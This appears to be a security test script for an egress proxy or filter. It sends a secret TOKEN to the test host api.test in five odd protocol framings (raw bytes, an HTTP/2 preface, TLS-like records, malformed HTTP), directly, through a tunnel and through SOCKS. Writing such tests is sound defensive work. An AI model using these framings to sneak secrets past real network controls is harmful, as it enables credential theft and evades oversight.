"""To a host that gets secrets: what nobody can read on the way."""

from probe import *

WAYS = [
    b"\0some other protocol " + TOKEN.encode(),
    b"some other protocol " + TOKEN.encode() + b"\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + TOKEN.encode(),
    b"\x15\3\1\0\2\1\x5a" + hello("api.test") + TOKEN.encode(),
    b"\x0cGET / HTTP/1.1\r\nHost: api.test\r\nX: " + TOKEN.encode() + b"\r\n\r\n",
]


def control():
    for data in WAYS:
        send("api.test", 9000, data)


def attack():
    patience(1)
    for data in WAYS:
        say("direct", send("api.test", 9000, data))
        say("tunnel", tunnel("api.test:9000", data))
        say("socks", by_socks("api.test", 9000, data))


start(attack, control)
